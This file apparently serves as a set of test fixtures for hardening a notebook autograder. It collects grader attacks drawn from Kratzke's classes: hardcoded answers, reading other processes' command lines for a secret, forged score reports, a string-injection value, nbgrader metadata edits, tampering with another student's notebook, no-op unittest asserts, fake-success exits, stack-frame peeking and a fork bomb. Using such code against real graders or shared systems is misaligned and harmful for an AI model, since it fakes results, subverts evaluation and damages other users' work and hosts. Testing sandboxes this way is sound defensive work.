# Attacks by the names that others gave their classes: Kratzke 2019 (overfitting, evasion, redirection, injection), and what has been written
# about graders that run the tests beside the student's code (Gradescope's). earns="2": what the visible check gives for what it shows.

# %% attack="overfitting: a table of the visible arguments" exercise="double" earns="2"
def double(x):
    return {3: 6}[x]


# %% attack="overfitting: the arguments of all calls are kept for the next hand-in" exercise="double" earns="2"
asked = []


def double(x):
    asked.append(x)
    open("asked.txt", "a").write(f"{x}\n")
    return 6


# %% attack="evasion: an object that answers only what is asked" exercise="shape" without="judge"
class Model(keras.Model):
    layers = [type("Dense", (), {"units": 2})()]

    def count_params(self):
        return 8


shape = Model.__new__(Model)

# %% attack="redirection: the answer comes from the reference of another process" exercise="secret" without="namespaces root landlock"
import glob, os, re


def said(path):
    try:
        return open(path, "rb").read()
    except OSError:
        return b""


everybody = b" ".join(map(said, glob.glob("/proc/[0-9]*/cmdline")))
secret = int(re.search(rb"vault-secret-(\d+)", everybody)[1])

# %% attack="injection: a report is displayed before the check's own" exercise="net"
from IPython.display import publish_display_data

line = {"status": "met", "title": "t", "points": 2, "earned": 2}
publish_display_data(
    {
        "application/vnd.functional-keras.report+json": {
            "version": 1,
            "points": 2,
            "score": 2,
            "lines": [line],
        },
        "text/plain": "2",
    }
)
print("2")
net = 1

# %% attack="injection: text that would end the check's string" exercise="asserted"
asserted = "5150' or True or '"

# %% attack="injection: the notebook says which kernel and which points" by="edit" exercise="net"
for cell in cells:
    about = cell["metadata"].get("nbgrader", {})
    about.update(
        points=0.0 if about.get("grade") else about.get("points"), grade=False, locked=False
    )
named("check-net")["source"] = "2"

# %% attack="a file of results is written beforehand" without="root landlock" gain="file"
import json

json.dump({"score": 100, "tests": [{"score": 100}]}, open("{outside}/owned", "w"))

# %% attack="another student's notebook is replaced" without="root landlock not-root" gain="changed"
open("{course}/submitted/other/vault/vault.ipynb", "a").write(" ")

# %% attack="the test framework is patched" exercise="asserted" without="judge"
import unittest

for name in [n for n in dir(unittest.TestCase) if n.startswith("assert")]:
    setattr(unittest.TestCase, name, lambda *a, **k: None)


async def nothing(self, code, result=None, **more):
    return False


type(get_ipython()).run_code = nothing
asserted = 1

# %% attack="an early end that looks like success" gain="stopped"
import os, sys

sys.stdout.flush()
os._exit(0)

# %% attack="SystemExit in the answer" exercise="asserted"
raise SystemExit(0)


# %% attack="SystemExit in a function that the check calls" exercise="hidden_call"
def hidden_call(x):
    raise SystemExit(0)


# %% attack="the caller's frames hold the expected value" exercise="hidden_call" without="judge"
import inspect


def hidden_call(x):
    for frame in inspect.stack():
        if "expected_here" in frame.frame.f_globals:
            return frame.frame.f_globals["expected_here"]
    return 0


# %% attack="the hidden test is sent away with a question for a name" gain="connection" without="namespaces seccomp"
import socket

socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"?", ("127.0.0.1", {port}))
socket.create_connection(("127.0.0.1", {port}), 2)

# %% attack="fork bomb in a session of its own" gain="stopped"
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
